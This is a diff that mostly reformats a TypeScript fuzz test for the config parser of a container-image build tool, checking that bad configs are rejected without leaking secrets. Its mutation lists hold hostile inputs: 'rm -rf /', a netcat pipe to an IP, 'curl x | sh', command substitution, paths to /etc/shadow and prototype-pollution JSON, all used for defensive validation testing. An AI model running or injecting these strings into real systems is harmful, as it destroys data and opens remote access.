@@ -59,19 +59,30 @@ const clusterReads: ClusterAccess = {
     connect: () => ({
         get: async (path: string) => {
             const b64 = (t: string) => Buffer.from(t).toString("base64");
-            if (path === ENTITLEMENT_PATH) return { kind: "Secret", data: { "entitlement.pem": b64(FAKE_ENT_CERT), "entitlement-key.pem": b64(FAKE_ENT_KEY) } };
-            if (path === DRIVER_TOOLKIT_PATH) return { kind: "ImageStream", spec: { tags: [{ name: "latest", from: { kind: "DockerImage", name: FAKE_DTK } }] } };
+            if (path === ENTITLEMENT_PATH)
+                return {
+                    kind: "Secret",
+                    data: { "entitlement.pem": b64(FAKE_ENT_CERT), "entitlement-key.pem": b64(FAKE_ENT_KEY) },
+                };
+            if (path === DRIVER_TOOLKIT_PATH)
+                return {
+                    kind: "ImageStream",
+                    spec: { tags: [{ name: "latest", from: { kind: "DockerImage", name: FAKE_DTK } }] },
+                };
             throw new Error(`the fuzz test's cluster serves no ${path}`);
         },
     }),
     pollMs: 1,
     clock: realClock,
 };
-const readsCluster = (cfg: StackConfig): boolean => usesClusterEntitlement(cfg) || cfg.image.stages.some(s => s.base === DRIVER_TOOLKIT_BASE);
-const waitsOnCluster = (cfg: StackConfig): boolean => cfg.kubeconfig !== undefined && cfg.cluster.renderTo === undefined;
+const readsCluster = (cfg: StackConfig): boolean =>
+    usesClusterEntitlement(cfg) || cfg.image.stages.some(s => s.base === DRIVER_TOOLKIT_BASE);
+const waitsOnCluster = (cfg: StackConfig): boolean =>
+    cfg.kubeconfig !== undefined && cfg.cluster.renderTo === undefined;
 let leftOut = 0;
 
-const SEED = process.env.RF_FUZZ_SEED !== undefined ? Number(process.env.RF_FUZZ_SEED) : Math.floor(Math.random() * 2 ** 31);
+const SEED =
+    process.env.RF_FUZZ_SEED !== undefined ? Number(process.env.RF_FUZZ_SEED) : Math.floor(Math.random() * 2 ** 31);
 const RUNS = Number(process.env.RF_FUZZ_RUNS ?? 10_000);
 /** Accepted stacks run through the program under mocks (each is a full program run). */
 const PIPELINE_SAMPLE = Number(process.env.RF_FUZZ_PROGRAMS ?? 30);
@@ -110,7 +121,11 @@ function toNode(schema: z.ZodTypeAny): KeyNode {
     const s = unwrap(schema);
     if (s instanceof z.ZodObject) {
         const shape = s.shape as Record<string, z.ZodTypeAny>;
-        return { kind: "object", fields: new Map(Object.entries(shape).map(([k, v]) => [k, toNode(v)])), open: s._def.unknownKeys === "passthrough" };
+        return {
+            kind: "object",
+            fields: new Map(Object.entries(shape).map(([k, v]) => [k, toNode(v)])),
+            open: s._def.unknownKeys === "passthrough",
+        };
     }
     if (s instanceof z.ZodDiscriminatedUnion || s instanceof z.ZodUnion) {
         const options = (s instanceof z.ZodUnion ? s._def.options : s.options) as z.ZodTypeAny[];
@@ -128,7 +143,10 @@ const ROOT = toNode(stackConfigSchema);
 /** A path segment: an object field, ARRAY (some element of a list) or RECORD (some key of a map). */
 const ARRAY = "[]";
 const RECORD = "{}";
-interface Key { readonly path: readonly string[]; readonly node: KeyNode }
+interface Key {
+    readonly path: readonly string[];
+    readonly node: KeyNode;
+}
 
 function keysOf(node: KeyNode, path: string[] = []): Key[] {
     const here = path.length > 0 ? [{ path, node }] : [];
@@ -168,7 +186,8 @@ function notNamingAKey(problem: string): string | undefined {
             rest = rest.slice(quoted[0].length);
         } else {
             if (!first) {
-                if (!rest.startsWith(".")) return `has ${JSON.stringify(rest.slice(0, 20))} where a key segment should be`;
+                if (!rest.startsWith("."))
+                    return `has ${JSON.stringify(rest.slice(0, 20))} where a key segment should be`;
                 rest = rest.slice(1);
             }
             // Keys other than [A-Za-z0-9_-]+ come quoted (the branch above), as in `pulumi config set --path`.
@@ -177,11 +196,20 @@ function notNamingAKey(problem: string): string | undefined {
             name = plain[0];
             rest = rest.slice(name.length);
         }
-        if (node.kind === "record") { node = node.value; continue; }
+        if (node.kind === "record") {
+            node = node.value;
+            continue;
+        }
         if (node.kind !== "object") return `descends into ${JSON.stringify(name)} below a value`;
         const field = node.fields.get(name);
-        if (field !== undefined) { node = field; continue; }
-        if (node.open) { node = ANY; continue; }
+        if (field !== undefined) {
+            node = field;
+            continue;
+        }
+        if (node.open) {
+            node = ANY;
+            continue;
+        }
         if (rest.startsWith(UNKNOWN)) return undefined;
         return `names ${JSON.stringify(name)}, which is not a key of the schema`;
     }
@@ -189,13 +217,52 @@ function notNamingAKey(problem: string): string | undefined {
 
 // ------------------------------------------------------------------ mutations
 const DIGEST_HEX = "0123456789abcdef".repeat(4);
-const SHELL = ["; rm -rf /", "$(touch /tmp/pwned-fuzz)", "`id`", "| nc 203.0.113.9 1", "&& reboot", "\nRUN curl x | sh", "'", "\"", "\\", "${IFS}", "*", "\r\n", "#"];
+const SHELL = [
+    "; rm -rf /",
+    "$(touch /tmp/pwned-fuzz)",
+    "`id`",
+    "| nc 203.0.113.9 1",
+    "&& reboot",
+    "\nRUN curl x | sh",
+    "'",
+    '"',
+    "\\",
+    "${IFS}",
+    "*",
+    "\r\n",
+    "#",
+];
 const UNICODE = ["é", "\u202e", "\u200b", "ｆｒａ１", "\u0000", "🦀", "\ud800", "İ", "\u0085", "\u2028"];
 const NUMBERS = [0, -1, 1.5, 65536, 2 ** 31, 2 ** 53 + 2, 1e21, 1e308, -1e308, Number.MAX_SAFE_INTEGER, -0];
 /** A valid-looking value for a key the base stack does not have, to near-miss from. */
-const SEEDS = ["quay.io/org/x@sha256:" + DIGEST_HEX, "registry.example.com/org/rhcos", "release-4.19", "fra1", "worker", "/etc/x.conf", "0644", "https://example.com/repo/", "10%", "a".repeat(40)];
+const SEEDS = [
+    "quay.io/org/x@sha256:" + DIGEST_HEX,
+    "registry.example.com/org/rhcos",
+    "release-4.19",
+    "fra1",
+    "worker",
+    "/etc/x.conf",
+    "0644",
+    "https://example.com/repo/",
+    "10%",
+    "a".repeat(40),
+];
 
-const NEAR_MISSES = ["tagForDigest", "upper", "space", "shell", "unicode", "long", "dotdot", "absolute", "truncate", "empty", "numberText", "duplicate", "secret"] as const;
+const NEAR_MISSES = [
+    "tagForDigest",
+    "upper",
+    "space",
+    "shell",
+    "unicode",
+    "long",
+    "dotdot",
+    "absolute",
+    "truncate",
+    "empty",
+    "numberText",
+    "duplicate",
+    "secret",
+] as const;
 type NearMiss = (typeof NEAR_MISSES)[number];
 
 type Mutation =
@@ -209,32 +276,69 @@ type Mutation =
 /** A value holding a test secret in a shape its key refuses (only ever used at secret keys). */
 function secretShapes(pick: number): unknown {
     const s = harness.SECRET_VALUES[pick % harness.SECRET_VALUES.length];
-    const shapes: unknown[] = [s, { auth: s }, [s], { "bad id!": s }, { "rhel-9-appstream": [s] }, { "rhel-9-appstream": 7, x: s }, `${s} ${s}`];
+    const shapes: unknown[] = [
+        s,
+        { auth: s },
+        [s],
+        { "bad id!": s },
+        { "rhel-9-appstream": [s] },
+        { "rhel-9-appstream": 7, x: s },
+        `${s} ${s}`,
+    ];
     return shapes[Math.floor(pick / harness.SECRET_VALUES.length) % shapes.length];
 }
 
 function nearMissString(s: string, how: NearMiss, pick: number, secretKey: boolean): unknown {
     switch (how) {
-        case "tagForDigest": return /@sha256:[0-9a-f]+/.test(s) ? s.replace(/@sha256:[0-9a-f]+/, [":latest", ":4.19", "@sha256:abc", "@SHA256:" + DIGEST_HEX][pick % 4]) : `${s}:latest`;
-        case "upper": return s.toUpperCase() === s ? s.toLowerCase() + "X" : s.toUpperCase();
-        case "space": return [` ${s}`, `${s} `, s.slice(0, pick % (s.length + 1)) + " " + s.slice(pick % (s.length + 1)), `${s}\t`][pick % 4];
-        case "shell": return pick % 2 === 0 ? s + SHELL[pick % SHELL.length] : SHELL[pick % SHELL.length] + s;
-        case "unicode": return s.slice(0, pick % (s.length + 1)) + UNICODE[pick % UNICODE.length] + s.slice(pick % (s.length + 1));
-        case "long": return (s || "a").repeat(Math.ceil(4096 / Math.max(1, s.length)));
-        case "dotdot": return [`../${s}`, `${s}/../../etc/shadow`, "..", `${s}/..`][pick % 4];
-        case "absolute": return ["/etc/passwd", `/${s}`, "/tmp/../etc", "//" + s][pick % 4];
-        case "truncate": return s.slice(0, pick % Math.max(1, s.length));
-        case "empty": return "";
-        case "numberText": return [String(NUMBERS[pick % NUMBERS.length]), "1e400", "0x1F", "08", "NaN"][pick % 5];
-        case "duplicate": return s + s;
-        case "secret": return secretKey ? secretShapes(pick) : s;
+        case "tagForDigest":
+            return /@sha256:[0-9a-f]+/.test(s)
+                ? s.replace(/@sha256:[0-9a-f]+/, [":latest", ":4.19", "@sha256:abc", "@SHA256:" + DIGEST_HEX][pick % 4])
+                : `${s}:latest`;
+        case "upper":
+            return s.toUpperCase() === s ? s.toLowerCase() + "X" : s.toUpperCase();
+        case "space":
+            return [
+                ` ${s}`,
+                `${s} `,
+                s.slice(0, pick % (s.length + 1)) + " " + s.slice(pick % (s.length + 1)),
+                `${s}\t`,
+            ][pick % 4];
+        case "shell":
+            return pick % 2 === 0 ? s + SHELL[pick % SHELL.length] : SHELL[pick % SHELL.length] + s;
+        case "unicode":
+            return s.slice(0, pick % (s.length + 1)) + UNICODE[pick % UNICODE.length] + s.slice(pick % (s.length + 1));
+        case "long":
+            return (s || "a").repeat(Math.ceil(4096 / Math.max(1, s.length)));
+        case "dotdot":
+            return [`../${s}`, `${s}/../../etc/shadow`, "..", `${s}/..`][pick % 4];
+        case "absolute":
+            return ["/etc/passwd", `/${s}`, "/tmp/../etc", "//" + s][pick % 4];
+        case "truncate":
+            return s.slice(0, pick % Math.max(1, s.length));
+        case "empty":
+            return "";
+        case "numberText":
+            return [String(NUMBERS[pick % NUMBERS.length]), "1e400", "0x1F", "08", "NaN"][pick % 5];
+        case "duplicate":
+            return s + s;
+        case "secret":
+            return secretKey ? secretShapes(pick) : s;
     }
 }
 
 function nearMiss(current: unknown, how: NearMiss, pick: number, secretKey: boolean): unknown {
     if (how === "secret" && secretKey) return secretShapes(pick);
     if (typeof current === "string") return nearMissString(current, how, pick, secretKey);
-    if (typeof current === "number") return [current + 1, current - 1, -current, current * 1e9, current + 0.5, String(current), NUMBERS[pick % NUMBERS.length]][pick % 7];
+    if (typeof current === "number")
+        return [
+            current + 1,
+            current - 1,
+            -current,
+            current * 1e9,
+            current + 0.5,
+            String(current),
+            NUMBERS[pick % NUMBERS.length],
+        ][pick % 7];
     if (typeof current === "boolean") return [String(current), current ? 1 : 0, "yes", null][pick % 4];
     if (Array.isArray(current)) {
         if (current.length === 0) return [nearMissString(SEEDS[pick % SEEDS.length], how, pick, secretKey)];
@@ -268,18 +372,27 @@ function elementFor(node: KeyNode, pick: number): unknown {
 
 function mutate(current: unknown, key: Key, m: Mutation): unknown {
     switch (m.op) {
-        case "nearMiss": return nearMiss(current, m.how, m.pick, isSecretKey(key.path));
-        case "value": return m.value;
-        case "valid": return elementFor(key.node, m.pick);
+        case "nearMiss":
+            return nearMiss(current, m.how, m.pick, isSecretKey(key.path));
+        case "value":
+            return m.value;
+        case "valid":
+            return elementFor(key.node, m.pick);
         case "longList": {
-            const item = Array.isArray(current) && current.length > 0 ? current[m.pick % current.length]
-                : key.node.kind === "array" ? elementFor(key.node.element, m.pick) : current ?? "x";
+            const item =
+                Array.isArray(current) && current.length > 0
+                    ? current[m.pick % current.length]
+                    : key.node.kind === "array"
+                      ? elementFor(key.node.element, m.pick)
+                      : (current ?? "x");
             // Long, but bounded (~200 kB of JSON): lists of lists of long strings would not fit in a string at all.
             const size = Math.max(1, JSON.stringify(item ?? null).length);
             return Array.from({ length: Math.max(1, Math.min(m.length, Math.floor(200_000 / size))) }, () => item);
         }
-        case "delete": return undefined;
-        case "unknownKey": return current;
+        case "delete":
+            return undefined;
+        case "unknownKey":
+            return current;
     }
 }
 
@@ -290,7 +403,8 @@ function apply(stack: JsonTree, key: Key, m: Mutation, pick: number): void {
     for (let i = 0; i < path.length - 1; i++) {
         const seg = path[i];
         const next = path[i + 1];
-        const want = (v: unknown): boolean => (next === ARRAY ? Array.isArray(v) : v !== null && typeof v === "object" && !Array.isArray(v));
+        const want = (v: unknown): boolean =>
+            next === ARRAY ? Array.isArray(v) : v !== null && typeof v === "object" && !Array.isArray(v);
         const fresh = (): unknown => (next === ARRAY ? [] : {});
         if (seg === ARRAY) {
             const list = cur as unknown as unknown[];
@@ -299,7 +413,8 @@ function apply(stack: JsonTree, key: Key, m: Mutation, pick: number): void {
             if (!want(list[j])) list[j] = fresh();
             cur = list[j] as JsonTree;
         } else {
-            const k = seg === RECORD ? (Object.keys(cur)[pick % Math.max(1, Object.keys(cur).length)] ?? "fuzz-key") : seg;
+            const k =
+                seg === RECORD ? (Object.keys(cur)[pick % Math.max(1, Object.keys(cur).length)] ?? "fuzz-key") : seg;
             if (!want(cur[k])) cur[k] = fresh();
             cur = cur[k] as JsonTree;
         }
@@ -307,21 +422,24 @@ function apply(stack: JsonTree, key: Key, m: Mutation, pick: number): void {
     const last = path[path.length - 1];
     if (m.op === "unknownKey") {
         const target = last === ARRAY || last === RECORD ? cur : cur[last];
-        if (target !== null && typeof target === "object" && !Array.isArray(target)) (target as JsonTree)[m.name] = "fuzz";
+        if (target !== null && typeof target === "object" && !Array.isArray(target))
+            (target as JsonTree)[m.name] = "fuzz";
         else cur[`${last === ARRAY || last === RECORD ? "fuzz" : last}${m.name}`] = "fuzz";
         return;
     }
     if (last === ARRAY) {
         const list = cur as unknown as unknown[];
-        if (list.length === 0) list.push(elementFor((key.node), pick));
+        if (list.length === 0) list.push(elementFor(key.node, pick));
         const j = pick % list.length;
         const v = mutate(list[j], key, m);
-        if (v === undefined) list.splice(j, 1); else list[j] = v;
+        if (v === undefined) list.splice(j, 1);
+        else list[j] = v;
         return;
     }
     const k = last === RECORD ? (Object.keys(cur)[pick % Math.max(1, Object.keys(cur).length)] ?? "fuzz-key") : last;
     const v = mutate(cur[k], key, m);
-    if (v === undefined) delete cur[k]; else cur[k] = v;
+    if (v === undefined) delete cur[k];
+    else cur[k] = v;
 }
 
 // ------------------------------------------------------------------ stacks
@@ -351,53 +469,105 @@ function allConfigOf(tree: JsonTree, texts: readonly (readonly [string, string])
 
 const TOP_KEYS = [...(ROOT.kind === "object" ? ROOT.fields.keys() : [])];
 const hostileText = fc.oneof(
-    fc.constantFrom("{", "[1,", "1e400", "null", "\"text\"", "{\"__proto__\": {\"polluted\": true}}", "{\"constructor\": {\"prototype\": {}}}", "", " ", "[]", "{}"),
+    fc.constantFrom(
+        "{",
+        "[1,",
+        "1e400",
+        "null",
+        '"text"',
+        '{"__proto__": {"polluted": true}}',
+        '{"constructor": {"prototype": {}}}',
+        "",
+        " ",
+        "[]",
+        "{}",
+    ),
     fc.string({ maxLength: 40 }),
 );
 /** Text holding a test secret (only ever given to secret keys): unparsable, or a bare secret. */
-const secretText = fc.nat().map(n => [`{"x": "${harness.SECRET_VALUES[n % harness.SECRET_VALUES.length]}"`, `${harness.SECRET_VALUES[n % harness.SECRET_VALUES.length]}`][n % 2]);
-const topText = fc.constantFrom(...TOP_KEYS, "fuzzUnknown", "buildhost")
+const secretText = fc
+    .nat()
+    .map(
+        n =>
+            [
+                `{"x": "${harness.SECRET_VALUES[n % harness.SECRET_VALUES.length]}"`,
+                `${harness.SECRET_VALUES[n % harness.SECRET_VALUES.length]}`,
+            ][n % 2],
+    );
+const topText = fc
+    .constantFrom(...TOP_KEYS, "fuzzUnknown", "buildhost")
     .chain(k => fc.tuple(fc.constant(k), isSecretKey([k]) ? fc.oneof(hostileText, secretText) : hostileText));
 
 const wrongType = fc.oneof(
-    fc.integer(), fc.double({ noNaN: false }), fc.boolean(), fc.constant(null), fc.constantFrom(...NUMBERS),
-    fc.string({ maxLength: 30 }), fc.string({ unit: "grapheme", maxLength: 30 }), fc.string({ unit: "binary", maxLength: 30 }),
-    fc.array(fc.string({ maxLength: 10 }), { maxLength: 5 }), fc.dictionary(fc.string({ maxLength: 10 }), fc.string({ maxLength: 10 }), { maxKeys: 4 }),
+    fc.integer(),
+    fc.double({ noNaN: false }),
+    fc.boolean(),
+    fc.constant(null),
+    fc.constantFrom(...NUMBERS),
+    fc.string({ maxLength: 30 }),
+    fc.string({ unit: "grapheme", maxLength: 30 }),
+    fc.string({ unit: "binary", maxLength: 30 }),
+    fc.array(fc.string({ maxLength: 10 }), { maxLength: 5 }),
+    fc.dictionary(fc.string({ maxLength: 10 }), fc.string({ maxLength: 10 }), { maxKeys: 4 }),
     fc.jsonValue({ maxDepth: 3 }),
 );
 
 const unknownName = fc.oneof(
     fc.string({ minLength: 1, maxLength: 20 }),
-    fc.constantFrom(...KEYS.map(k => k.path[k.path.length - 1]).filter(s => s !== ARRAY && s !== RECORD))
+    fc
+        .constantFrom(...KEYS.map(k => k.path[k.path.length - 1]).filter(s => s !== ARRAY && s !== RECORD))
         .chain(n => fc.constantFrom(n.toUpperCase(), `${n} `, `${n}s`, n.slice(1) || "x", `${n}\u200b`)),
     fc.constantFrom("__proto__", "constructor", "toString", "a b", "a.b", "a[0]", "x\ny"),
 );
 
 const mutation: fc.Arbitrary<Mutation> = fc.oneof(
-    { weight: 5, arbitrary: fc.record({ op: fc.constant("nearMiss" as const), how: fc.constantFrom(...NEAR_MISSES), pick: fc.nat() }) },
+    {
+        weight: 5,
+        arbitrary: fc.record({
+            op: fc.constant("nearMiss" as const),
+            how: fc.constantFrom(...NEAR_MISSES),
+            pick: fc.nat(),
+        }),
+    },
     { weight: 3, arbitrary: fc.record({ op: fc.constant("value" as const), value: wrongType }) },
     { weight: 3, arbitrary: fc.record({ op: fc.constant("valid" as const), pick: fc.nat() }) },
-    { weight: 1, arbitrary: fc.record({ op: fc.constant("longList" as const), length: fc.integer({ min: 200, max: 3000 }), pick: fc.nat() }) },
+    {
+        weight: 1,
+        arbitrary: fc.record({
+            op: fc.constant("longList" as const),
+            length: fc.integer({ min: 200, max: 3000 }),
+            pick: fc.nat(),
+        }),
+    },
     { weight: 1, arbitrary: fc.constant({ op: "delete" as const }) },
     { weight: 1, arbitrary: fc.record({ op: fc.constant("unknownKey" as const), name: unknownName }) },
 );
 
-interface Generated { readonly base: string; readonly allConfig: Record<string, string> }
+interface Generated {
+    readonly base: string;
+    readonly allConfig: Record<string, string>;
+}
 
-const stackArb: fc.Arbitrary<Generated> = fc.record({
-    base: fc.constantFrom(...Object.keys(BASES)),
-    edits: fc.array(fc.record({ key: fc.nat({ max: KEYS.length - 1 }), mutation, pick: fc.nat() }), { minLength: 1, maxLength: 4 }),
-    texts: fc.array(topText, { maxLength: 1 }),
-    textOdds: fc.nat({ max: 9 }),
-}).map(({ base, edits, texts, textOdds }) => {
-    const tree = structuredClone(BASES[base]);
-    for (const e of edits) apply(tree, KEYS[e.key], e.mutation, e.pick);
-    // Raw text (unparsable JSON, huge literals) at a top-level key, in one stack out of ten.
-    return { base, allConfig: allConfigOf(tree, textOdds === 0 ? texts : []) };
-});
+const stackArb: fc.Arbitrary<Generated> = fc
+    .record({
+        base: fc.constantFrom(...Object.keys(BASES)),
+        edits: fc.array(fc.record({ key: fc.nat({ max: KEYS.length - 1 }), mutation, pick: fc.nat() }), {
+            minLength: 1,
+            maxLength: 4,
+        }),
+        texts: fc.array(topText, { maxLength: 1 }),
+        textOdds: fc.nat({ max: 9 }),
+    })
+    .map(({ base, edits, texts, textOdds }) => {
+        const tree = structuredClone(BASES[base]);
+        for (const e of edits) apply(tree, KEYS[e.key], e.mutation, e.pick);
+        // Raw text (unparsable JSON, huge literals) at a top-level key, in one stack out of ten.
+        return { base, allConfig: allConfigOf(tree, textOdds === 0 ? texts : []) };
+    });
 
 // ------------------------------------------------------------------ the property
-const secretKeysOf = (cfg: Record<string, string>): string[] => Object.keys(cfg).filter(k => isSecretKey([k.slice(PREFIX.length)]));
+const secretKeysOf = (cfg: Record<string, string>): string[] =>
+    Object.keys(cfg).filter(k => isSecretKey([k.slice(PREFIX.length)]));
 const leaked = (text: string): string[] => harness.SECRET_VALUES.filter(s => text.includes(s));
 
 const counts = { tried: 0, rejected: 0, accepted: 0 };
@@ -410,9 +580,14 @@ let gatePassed = 0;
  * program sample.
  */
 function refusedByReleaseGate(cfg: StackConfig): boolean {
-    if (cfg.kubeconfig === undefined || cfg.image.builder !== "podman" || cfg.rollout.method !== "machineconfig") return false;
+    if (cfg.kubeconfig === undefined || cfg.image.builder !== "podman" || cfg.rollout.method !== "machineconfig")
+        return false;
     const imageBase = cfg.image.base === "cluster" ? harness.CLUSTER_BASE : cfg.image.base;
-    return !checkReleaseGate({ imageBase, clusterBase: harness.CLUSTER_BASE, allowMismatch: cfg.image.allowBaseMismatch }).ok;
+    return !checkReleaseGate({
+        imageBase,
+        clusterBase: harness.CLUSTER_BASE,
+        allowMismatch: cfg.image.allowBaseMismatch,
+    }).ok;
 }
 const accepted: Generated[] = [];
 const rejected: Generated[] = [];
@@ -426,42 +601,56 @@ function keep(sample: Generated[], size: number, seen: number, item: Generated, 
 it(`${RUNS} generated stacks each parse or fail with a ConfigError naming real keys, never a secret`, () => {
     const started = Date.now();
     console.log(`config fuzz: seed ${SEED} (reproduce with RF_FUZZ_SEED=${SEED}); ${KEYS.length} keys from the schema`);
-    const details = fc.check(fc.property(stackArb, fc.nat(), (g, draw) => {
-        counts.tried++;
-        let error: unknown;
-        let cfg: StackConfig | undefined;
-        try {
-            cfg = parseStackConfig(g.allConfig);
-        } catch (e) {
-            error = e;
-        }
-        if (cfg !== undefined) {
-            counts.accepted++;
-            const rendered = renderedContainerfile(cfg);
-            if (rendered !== undefined) assert.equal(containerfileProblem(rendered), undefined, `rendered from ${JSON.stringify(cfg.image).slice(0, 400)}`);
-            if (readsCluster(cfg) && waitsOnCluster(cfg)) leftOut++;
-            else if (!refusedByReleaseGate(cfg)) keep(accepted, PIPELINE_SAMPLE, ++gatePassed, g, draw);
-            return;
-        }
-        if (!(error instanceof ConfigError)) {
-            throw new Error(`not a ConfigError: ${error instanceof Error ? error.stack : String(error)}`);
-        }
-        counts.rejected++;
-        keep(rejected, REJECTED_SAMPLE, counts.rejected, g, draw);
-        assert.ok(error.problems.length > 0, "a ConfigError lists its problems");
-        for (const p of error.problems) {
-            const why = notNamingAKey(p);
-            assert.equal(why, undefined, `problem ${JSON.stringify(p.slice(0, 300))} ${why}`);
-        }
-        assert.deepEqual(leaked(error.message), [], `a secret in ${JSON.stringify(error.message.slice(0, 500))}`);
-    }), { seed: SEED, numRuns: RUNS });
+    const details = fc.check(
+        fc.property(stackArb, fc.nat(), (g, draw) => {
+            counts.tried++;
+            let error: unknown;
+            let cfg: StackConfig | undefined;
+            try {
+                cfg = parseStackConfig(g.allConfig);
+            } catch (e) {
+                error = e;
+            }
+            if (cfg !== undefined) {
+                counts.accepted++;
+                const rendered = renderedContainerfile(cfg);
+                if (rendered !== undefined)
+                    assert.equal(
+                        containerfileProblem(rendered),
+                        undefined,
+                        `rendered from ${JSON.stringify(cfg.image).slice(0, 400)}`,
+                    );
+                if (readsCluster(cfg) && waitsOnCluster(cfg)) leftOut++;
+                else if (!refusedByReleaseGate(cfg)) keep(accepted, PIPELINE_SAMPLE, ++gatePassed, g, draw);
+                return;
+            }
+            if (!(error instanceof ConfigError)) {
+                throw new Error(`not a ConfigError: ${error instanceof Error ? error.stack : String(error)}`);
+            }
+            counts.rejected++;
+            keep(rejected, REJECTED_SAMPLE, counts.rejected, g, draw);
+            assert.ok(error.problems.length > 0, "a ConfigError lists its problems");
+            for (const p of error.problems) {
+                const why = notNamingAKey(p);
+                assert.equal(why, undefined, `problem ${JSON.stringify(p.slice(0, 300))} ${why}`);
+            }
+            assert.deepEqual(leaked(error.message), [], `a secret in ${JSON.stringify(error.message.slice(0, 500))}`);
+        }),
+        { seed: SEED, numRuns: RUNS },
+    );
     if (details.failed) {
         // The shrunk stack, each key cut short: the full one is reproduced with the seed.
         const stack = details.counterexample?.[0].allConfig ?? {};
-        const shown = Object.entries(stack).map(([k, v]) => `  ${k}: ${v.length > 400 ? `${v.slice(0, 400)}... (${v.length} chars)` : v}`);
-        assert.fail(`seed ${SEED}, path ${String(details.counterexamplePath)}: ${details.errorInstance instanceof Error ? details.errorInstance.message : String(details.errorInstance)}\n${shown.join("\n")}`);
+        const shown = Object.entries(stack).map(
+            ([k, v]) => `  ${k}: ${v.length > 400 ? `${v.slice(0, 400)}... (${v.length} chars)` : v}`,
+        );
+        assert.fail(
+            `seed ${SEED}, path ${String(details.counterexamplePath)}: ${details.errorInstance instanceof Error ? details.errorInstance.message : String(details.errorInstance)}\n${shown.join("\n")}`,
+        );
     }
-    console.log(`config fuzz: tried ${counts.tried}, rejected ${counts.rejected}, accepted ${counts.accepted} (${leftOut} read and wait on the cluster: not in the program sample) in ${((Date.now() - started) / 1000).toFixed(1)}s`);
+    console.log(
+        `config fuzz: tried ${counts.tried}, rejected ${counts.rejected}, accepted ${counts.accepted} (${leftOut} read and wait on the cluster: not in the program sample) in ${((Date.now() - started) / 1000).toFixed(1)}s`,
+    );
     assert.equal(counts.tried, RUNS);
     // The mutations must reach both outcomes for the rest of the test to mean anything.
     assert.ok(counts.accepted >= PIPELINE_SAMPLE && counts.rejected >= REJECTED_SAMPLE, JSON.stringify(counts));
@@ -469,31 +658,90 @@ it(`${RUNS} generated stacks each parse or fail with a ConfigError naming real k
 
 it("pins what the fuzzing found: odd keys quoted, control characters and $ refused where they break rendering, names need a mirror", () => {
     const base = minimalStack();
-    const problems = (patch: (c: JsonTree) => void): string[] => parseProblems(patched(() => structuredClone(base), patch));
-    assert.deepEqual(problems(c => { c.buildHost["port "] = 22; }),
-        ['rhcos-forge:buildHost["port "] is not a known key (check its spelling against the README\'s config reference)']);
-    assert.deepEqual(problems(c => { c.image.labels = { "a.b": "x\u0000y" }; }),
-        ['rhcos-forge:image.labels["a.b"] must be a label value without ", \\, $ or control characters, got "x\\u0000y"']);
-    assert.equal(problems(c => { c.image.labels = { a: "$HOME" }; }).length, 1);
-    assert.deepEqual(problems(c => { c.image.extraSteps = ["echo a\u001bb"]; }),
-        ['rhcos-forge:image.extraSteps[0] must not hold control characters (tabs are fine), got "echo a\\u001bb"']);
-    assert.deepEqual(problems(c => { c.image.extraSteps = ["echo\ta"]; c.image.labels = { a: "plain value" }; }), []);
-    assert.deepEqual(problems(c => { c.image.replace = ["rf-lib"]; }), [
-        "rhcos-forge:image.replace[0] is a package name, which comes from the build host's mirror, but rhcos-forge:mirror.repos is empty; add the repo it comes from, or give an RPM URL, got \"rf-lib\""]);
-    for (const p of problems(c => { c.mirror = { repos: [{ id: "a\r\nb", baseurl: "https://x.example/", username: "u", gpgcheck: false }] }; })) {
+    const problems = (patch: (c: JsonTree) => void): string[] =>
+        parseProblems(patched(() => structuredClone(base), patch));
+    assert.deepEqual(
+        problems(c => {
+            c.buildHost["port "] = 22;
+        }),
+        [
+            'rhcos-forge:buildHost["port "] is not a known key (check its spelling against the README\'s config reference)',
+        ],
+    );
+    assert.deepEqual(
+        problems(c => {
+            c.image.labels = { "a.b": "x\u0000y" };
+        }),
+        [
+            'rhcos-forge:image.labels["a.b"] must be a label value without ", \\, $ or control characters, got "x\\u0000y"',
+        ],
+    );
+    assert.equal(
+        problems(c => {
+            c.image.labels = { a: "$HOME" };
+        }).length,
+        1,
+    );
+    assert.deepEqual(
+        problems(c => {
+            c.image.extraSteps = ["echo a\u001bb"];
+        }),
+        ['rhcos-forge:image.extraSteps[0] must not hold control characters (tabs are fine), got "echo a\\u001bb"'],
+    );
+    assert.deepEqual(
+        problems(c => {
+            c.image.extraSteps = ["echo\ta"];
+            c.image.labels = { a: "plain value" };
+        }),
+        [],
+    );
+    assert.deepEqual(
+        problems(c => {
+            c.image.replace = ["rf-lib"];
+        }),
+        [
+            'rhcos-forge:image.replace[0] is a package name, which comes from the build host\'s mirror, but rhcos-forge:mirror.repos is empty; add the repo it comes from, or give an RPM URL, got "rf-lib"',
+        ],
+    );
+    for (const p of problems(c => {
+        c.mirror = { repos: [{ id: "a\r\nb", baseurl: "https://x.example/", username: "u", gpgcheck: false }] };
+    })) {
         assert.equal(notNamingAKey(p), undefined, p);
     }
-    assert.equal(problems(c => { c.mirror = { repos: [{ id: "a", baseurl: "https://x.example/", gpgkey: "https://x.example/k\u0000ey" }] }; }).length, 1);
+    assert.equal(
+        problems(c => {
+            c.mirror = { repos: [{ id: "a", baseurl: "https://x.example/", gpgkey: "https://x.example/k\u0000ey" }] };
+        }).length,
+        1,
+    );
     // The rules repo-mirror.sh and build-image.sh enforce on the host, refused here with the key.
-    assert.equal(problems(c => { c.mirror = { bind: ".." }; }).length, 1);
-    assert.equal(problems(c => { c.image.buildArgs = ["--volume", "/:/host"]; }).length, 2);
-    assert.deepEqual(problems(c => { c.mirror = { bind: "::" }; c.image.buildArgs = ["--isolation", "chroot", "--network", "host"]; }), []);
+    assert.equal(
+        problems(c => {
+            c.mirror = { bind: ".." };
+        }).length,
+        1,
+    );
+    assert.equal(
+        problems(c => {
+            c.image.buildArgs = ["--volume", "/:/host"];
+        }).length,
+        2,
+    );
+    assert.deepEqual(
+        problems(c => {
+            c.mirror = { bind: "::" };
+            c.image.buildArgs = ["--isolation", "chroot", "--network", "host"];
+        }),
+        [],
+    );
 });
 
 /** A program run must settle; a rejected Output would leave it pending, which fails here instead of hanging. */
 async function guarded<T>(what: string, p: Promise<T>): Promise<T> {
     let timer: NodeJS.Timeout | undefined;
-    const stuck = new Promise<never>((_, reject) => { timer = setTimeout(() => reject(new Error(`${what} did not settle`)), 30_000); });
+    const stuck = new Promise<never>((_, reject) => {
+        timer = setTimeout(() => reject(new Error(`${what} did not settle`)), 30_000);
+    });
     try {
         return await Promise.race([p, stuck]);
     } finally {
@@ -513,7 +761,12 @@ function renderedContainerfile(cfg: StackConfig): string | undefined {
